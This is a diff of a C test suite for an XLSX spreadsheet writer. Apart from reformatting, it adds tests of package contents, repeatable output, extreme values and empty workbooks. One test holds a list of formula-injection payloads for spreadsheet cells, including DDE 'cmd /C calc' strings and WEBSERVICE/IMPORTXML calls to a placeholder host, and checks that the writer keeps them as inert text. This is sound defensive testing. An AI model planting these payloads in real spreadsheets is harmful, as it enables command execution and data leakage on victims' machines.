@@ -1,4 +1,5 @@
-/* The writer: what is in the package, that hostile texts do no harm, that a second run gives the same bytes. */
+/* The writer: what is in the package, that hostile texts do no harm, that a second run gives the
+ * same bytes. */
 #include "testing.h"
 
 #include <string.h>
@@ -29,10 +30,14 @@ static bool has(zip_file *zip, const char *part, const char *text)
 static void test_demo(void **state)
 {
     (void)state;
-    static const struct { const char *part, *text; } wanted[] = {
-        {"xl/workbook.xml", "<definedName name=\"annual_loss_rate\">'Assumptions'!$B$6</definedName>"},
+    static const struct {
+        const char *part, *text;
+    } wanted[] = {
+        {"xl/workbook.xml",
+         "<definedName name=\"annual_loss_rate\">'Assumptions'!$B$6</definedName>"},
         {"xl/workbook.xml", "fullCalcOnLoad=\"1\""},
-        {"xl/worksheets/sheet1.xml", "<f>ROUND(customers_after_problem*annual_loss_rate*annual_value,2)</f><v>1234544.22</v>"},
+        {"xl/worksheets/sheet1.xml",
+         "<f>ROUND(customers_after_problem*annual_loss_rate*annual_value,2)</f><v>1234544.22</v>"},
         {"xl/worksheets/sheet1.xml", "location=\"'Problems'!A4\""},
         {"xl/worksheets/sheet1.xml", "showGridLines=\"0\""},
         {"xl/worksheets/sheet1.xml", "fitToPage=\"1\""},
@@ -45,7 +50,8 @@ static void test_demo(void **state)
         {"xl/worksheets/sheet6.xml", "ySplit=\"5\""},
         {"xl/worksheets/sheet7.xml", "orientation=\"portrait\""},
         {"xl/tables/table1.xml", "displayName=\"tbl_cases\" ref=\"A5:H405\""},
-        {"xl/drawings/drawing1.xml", "descr=\"Bar chart of the yearly churn cost by kind of problem;"},
+        {"xl/drawings/drawing1.xml",
+         "descr=\"Bar chart of the yearly churn cost by kind of problem;"},
         {"xl/charts/chart1.xml", "<c:barDir val=\"bar\"/>"},
         {"xl/charts/chart1.xml", "Problems!$F$7:$F$12"},
         {"xl/charts/chart6.xml", "<c:lineChart>"},
@@ -66,7 +72,8 @@ static void test_demo(void **state)
     write_demo(folder ? path : test_path(path, "demo.xlsx"), 400);
     zip_load(&zip, path);
     for (size_t i = 0; i < COUNT_OF(wanted); i++)
-        CHECK(has(&zip, wanted[i].part, wanted[i].text), "row %zu: %s lacks %s", i, wanted[i].part, wanted[i].text);
+        CHECK(has(&zip, wanted[i].part, wanted[i].text), "row %zu: %s lacks %s", i, wanted[i].part,
+              wanted[i].text);
     zip_free(&zip);
 }
 
@@ -83,7 +90,9 @@ static void test_same_bytes_on_a_second_run(void **state)
     free(b);
 }
 
-/* Cells that other programs would take for formulas, links or commands (OWASP's list and its neighbours). */
+/* Cells that other programs would take for formulas, links or commands (OWASP's list and its
+ * neighbours). */
+// clang-format off
 static const char *const payloads[] = {
     "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=HYPERLINK(\"http://x.example\",\"y\")",
     "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")", "http://x.example/?q=1",
@@ -92,11 +101,13 @@ static const char *const payloads[] = {
     "<?xml version=\"1.0\"?>", "_x003D_1+1", "_x0000_", "DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\xEF\xBB\xBF=1+1", "\xEF\xBC\x9D" "1+1",
     "=\xE2\x80\x8B" "1+1", "|calc", ";=1+1", ",=1+1", "\x01=1+1", "a\0=1+1", "#REF!", "#N/A", "TRUE", "1E5", "00123", "1/2", "2026-09-30",
 };
+// clang-format on
 
 static void test_no_text_becomes_a_formula(void **state)
 {
     (void)state;
-    static const cb_grid_column columns[] = {{"=1+1", CB_CELL_TEXT, 0, 0, "=1+1"}, {"Text", CB_CELL_TEXT, 0, 0, NULL}};
+    static const cb_grid_column columns[] = {{"=1+1", CB_CELL_TEXT, 0, 0, "=1+1"},
+                                             {"Text", CB_CELL_TEXT, 0, 0, NULL}};
     cb_arena *arena = cb_arena_new(NULL, 0);
     cb_error err = {.status = CB_OK};
     char path[320];
@@ -115,15 +126,17 @@ static void test_no_text_becomes_a_formula(void **state)
     cb_chart *c = cb_sheet_chart(s, CB_CHART_COLUMN, "=1+1", "=A1", "=Cells!A1");
     cb_chart_series(c, g, 0, 1, "=Cells!$A$1", CB_LOOK_MAIN);
     cb_chart_alt(c, "=1+1");
-    CHECK(cb_xlsx_write(w, test_path(path, "hostile.xlsx"), test_folder(), &err) == CB_OK, "%s", err.why);
+    CHECK(cb_xlsx_write(w, test_path(path, "hostile.xlsx"), test_folder(), &err) == CB_OK, "%s",
+          err.why);
     CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
     zip_load(&zip, path);
     for (size_t i = 0; i < zip.parts; i++) {
         const char *name = zip.part[i].name, *bytes = zip.part[i].bytes;
         CHECK(!strstr(bytes, "<hyperlink") && !strstr(bytes, "TargetMode"), "%s has a link", name);
         CHECK(!strstr(name, "worksheets/sheet") || !strstr(bytes, "<f>"), "%s has a formula", name);
-        CHECK(!strstr(name, "charts/") || !strstr(bytes, "<c:f>=") , "%s has a formula", name);
-        CHECK(!strstr(bytes, "externalLink") && !strstr(bytes, "<!DOCTYPE"), "%s has an external link", name);
+        CHECK(!strstr(name, "charts/") || !strstr(bytes, "<c:f>="), "%s has a formula", name);
+        CHECK(!strstr(bytes, "externalLink") && !strstr(bytes, "<!DOCTYPE"),
+              "%s has an external link", name);
     }
     zip_free(&zip);
     cb_arena_free(arena);
@@ -132,9 +145,30 @@ static void test_no_text_becomes_a_formula(void **state)
 static void test_extreme_values_come_back(void **state)
 {
     (void)state;
-    static const cb_grid_column columns[] = {{"N", CB_CELL_NUMBER, 3, 0, NULL}, {"M", CB_CELL_MONEY, 2, 0, NULL}, {"T", CB_CELL_TEXT, 0, 0, NULL}};
-    static const double numbers[] = {0, -0.0, 1e-300, 1e300, 9.95, 0.1, 1.0 / 3, -123456.789, 8.41, 1e15, 123456789012345678.0, 5e-324, 1.7976931348623157e308};
-    static const int64_t amounts[] = {0, 1, -1, 995, INT64_C(999999999999999), INT64_C(1000000000000000), INT64_MAX, INT64_MIN + 1};
+    static const cb_grid_column columns[] = {{"N", CB_CELL_NUMBER, 3, 0, NULL},
+                                             {"M", CB_CELL_MONEY, 2, 0, NULL},
+                                             {"T", CB_CELL_TEXT, 0, 0, NULL}};
+    static const double numbers[] = {0,
+                                     -0.0,
+                                     1e-300,
+                                     1e300,
+                                     9.95,
+                                     0.1,
+                                     1.0 / 3,
+                                     -123456.789,
+                                     8.41,
+                                     1e15,
+                                     123456789012345678.0,
+                                     5e-324,
+                                     1.7976931348623157e308};
+    static const int64_t amounts[] = {0,
+                                      1,
+                                      -1,
+                                      995,
+                                      INT64_C(999999999999999),
+                                      INT64_C(1000000000000000),
+                                      INT64_MAX,
+                                      INT64_MIN + 1};
     cb_arena *arena = cb_arena_new(NULL, 0);
     cb_error err = {.status = CB_OK};
     char path[320], *large = malloc(100001);
@@ -143,19 +177,26 @@ static void test_extreme_values_come_back(void **state)
     cb_grid *g = cb_sheet_grid(cb_workbook_sheet(w, "Cells", "t", NULL), "g", "", columns, 3);
     for (size_t i = 0; i < 3000; i++) {
         cb_grid_row(g);
-        cb_put_number(g, 0, i < COUNT_OF(numbers) ? numbers[i] : ldexp((double)(int64_t)test_random(&seed), (int)(i % 200) - 160));
-        cb_put_money(g, 1, i < COUNT_OF(amounts) ? amounts[i] : (int64_t)test_random(&seed) >> (i % 60));
+        cb_put_number(g, 0,
+                      i < COUNT_OF(numbers)
+                          ? numbers[i]
+                          : ldexp((double)(int64_t)test_random(&seed), (int)(i % 200) - 160));
+        cb_put_money(g, 1,
+                     i < COUNT_OF(amounts) ? amounts[i] : (int64_t)test_random(&seed) >> (i % 60));
     }
     for (size_t i = 0; i <= 100000; i++)
         large[i] = i % 50 ? 'x' : '\n';
     cb_put_text(g, 2, (cb_str){large, 100000});
     assert_int_equal(w->texts_mended, 1);
-    CHECK(cb_xlsx_write(w, test_path(path, "extreme.xlsx"), test_folder(), &err) == CB_OK, "%s", err.why);
+    CHECK(cb_xlsx_write(w, test_path(path, "extreme.xlsx"), test_folder(), &err) == CB_OK, "%s",
+          err.why);
     CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
     zip_file zip;
     zip_load(&zip, path);
-    assert_false(has(&zip, "xl/worksheets/sheet1.xml", "NAN") || has(&zip, "xl/worksheets/sheet1.xml", "nan") ||
-                 has(&zip, "xl/worksheets/sheet1.xml", "INF") || has(&zip, "xl/worksheets/sheet1.xml", "inf"));
+    assert_false(has(&zip, "xl/worksheets/sheet1.xml", "NAN") ||
+                 has(&zip, "xl/worksheets/sheet1.xml", "nan") ||
+                 has(&zip, "xl/worksheets/sheet1.xml", "INF") ||
+                 has(&zip, "xl/worksheets/sheet1.xml", "inf"));
     assert_true(has(&zip, "xl/sharedStrings.xml", "92233720368547758.07"));
     zip_free(&zip);
     free(large);
@@ -165,12 +206,14 @@ static void test_extreme_values_come_back(void **state)
 static void test_empty_things(void **state)
 {
     (void)state;
-    static const cb_grid_column columns[] = {{"A", CB_CELL_TEXT, 0, 0, NULL}, {"B", CB_CELL_NUMBER, 1, 0, NULL}};
+    static const cb_grid_column columns[] = {{"A", CB_CELL_TEXT, 0, 0, NULL},
+                                             {"B", CB_CELL_NUMBER, 1, 0, NULL}};
     cb_arena *arena = cb_arena_new(NULL, 0);
     cb_error err = {.status = CB_OK};
     char path[320];
     cb_workbook *w = cb_workbook_new(arena, "empty", "");
-    CHECK(cb_xlsx_write(w, test_path(path, "none.xlsx"), test_folder(), &err) == CB_ECANTCREAT, "a workbook without a sheet");
+    CHECK(cb_xlsx_write(w, test_path(path, "none.xlsx"), test_folder(), &err) == CB_ECANTCREAT,
+          "a workbook without a sheet");
     cb_error_clear(&err);
     cb_workbook_sheet(w, "Nothing", "", NULL);
     cb_sheet *s = cb_workbook_sheet(w, "Empty", "t", "");
@@ -185,7 +228,8 @@ static void test_empty_things(void **state)
     cb_grid_total(total);
     cb_put_text(total, 0, CB_LIT(""));
     cb_set_formula(total, 1, "=SUM({h!1})");
-    CHECK(cb_xlsx_write(w, test_path(path, "empty.xlsx"), test_folder(), &err) == CB_OK, "%s", err.why);
+    CHECK(cb_xlsx_write(w, test_path(path, "empty.xlsx"), test_folder(), &err) == CB_OK, "%s",
+          err.why);
     CHECK(cb_xlsx_verify(w, path, &err) == CB_OK, "%s", err.why);
     cb_arena_free(arena);
 }
@@ -210,7 +254,8 @@ static void test_target_exists(void **state)
 static int remove_folder(void **state)
 {
     (void)state;
-    static const char *const names[] = {"demo.xlsx", "one.xlsx", "two.xlsx", "hostile.xlsx", "extreme.xlsx", "empty.xlsx", "victim", "link.xlsx"};
+    static const char *const names[] = {"demo.xlsx",    "one.xlsx",   "two.xlsx", "hostile.xlsx",
+                                        "extreme.xlsx", "empty.xlsx", "victim",   "link.xlsx"};
     char path[320];
     for (size_t i = 0; i < COUNT_OF(names); i++)
         (void)unlink(test_path(path, names[i]));
@@ -220,8 +265,12 @@ static int remove_folder(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_demo), cmocka_unit_test(test_same_bytes_on_a_second_run), cmocka_unit_test(test_no_text_becomes_a_formula),
-        cmocka_unit_test(test_extreme_values_come_back), cmocka_unit_test(test_empty_things), cmocka_unit_test(test_target_exists),
+        cmocka_unit_test(test_demo),
+        cmocka_unit_test(test_same_bytes_on_a_second_run),
+        cmocka_unit_test(test_no_text_becomes_a_formula),
+        cmocka_unit_test(test_extreme_values_come_back),
+        cmocka_unit_test(test_empty_things),
+        cmocka_unit_test(test_target_exists),
     };
     return cmocka_run_group_tests(tests, NULL, remove_folder);
 }
